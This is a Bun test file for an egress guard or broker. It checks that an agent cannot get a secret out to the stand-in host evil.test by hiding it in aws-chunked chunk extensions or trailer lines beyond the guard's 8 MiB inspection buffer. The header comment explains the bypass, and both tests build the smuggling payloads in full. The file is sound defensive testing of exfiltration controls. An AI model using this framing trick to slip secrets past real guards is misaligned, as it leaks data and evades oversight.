// Attack: a value in the framing of an aws-chunked body past the guard's 8 MiB buffer. Past the
// buffer the framing is undone as the body streams and only the payload went through the guard,
// while the agent's framed bytes went on as written: a chunk extension (`size;x=VALUE`) or a
// trailer line (`x-leak: VALUE`) after the first 8 MiB carried the value to a host of the agent's
// (evil.test, unmatched, guarded). Broker and attacker run as the unprivileged user; each attempt
// must be refused and zero bytes of the value may reach evil.test's raw wire.
import { describe, expect, test } from "bun:test";
import { type Broker, brokerForFile } from "../support/upgrade-broker.ts";

let B: Broker;
brokerForFile("av-aws-chunked-framing-", (broker) => (B = broker));

const BIG = 9 * 1024 * 1024;

async function send(framed: Buffer, headers: [string, string][]): Promise<{ status: number; text: string; wire: string }> {
  const conn = await B.tunnel("evil.test");
  const mark = B.upstream.wire.length;
  const res = await conn.request("PUT", "/upload", [["Host", "evil.test"], ["Content-Encoding", "aws-chunked"], ...headers], framed);
  B.outputs.push(res.text);
  await Bun.sleep(50);
  conn.close();
  return { status: res.status, text: res.text, wire: B.wireFor("evil.test", mark).toString("latin1") };
}

describe("aws-chunked framing past the guard's buffer", () => {
  test("a value in a chunk extension after 8 MiB is refused; none of it reaches evil.test", async () => {
    const payload = Buffer.alloc(BIG, "p");
    const framed = Buffer.concat([Buffer.from(`${BIG.toString(16)}\r\n`), payload, Buffer.from(`\r\n3;x=${B.secret}\r\nabc\r\n0\r\n\r\n`)]);
    const r = await send(framed, []);
    expect(r.wire.includes(B.secret)).toBe(false);
    expect(r.status, r.text).toBe(403);
  }, 60_000);

  test("a value in a trailer line after 8 MiB is refused; none of it reaches evil.test", async () => {
    const payload = Buffer.alloc(BIG, "q");
    const framed = Buffer.concat([Buffer.from(`${BIG.toString(16)}\r\n`), payload, Buffer.from(`\r\n0\r\nx-leak: ${B.secret}\r\n\r\n`)]);
    const r = await send(framed, [["x-amz-trailer", "x-leak"]]);
    expect(r.wire.includes(B.secret)).toBe(false);
    expect(r.status, r.text).toBe(403);
  }, 60_000);
});
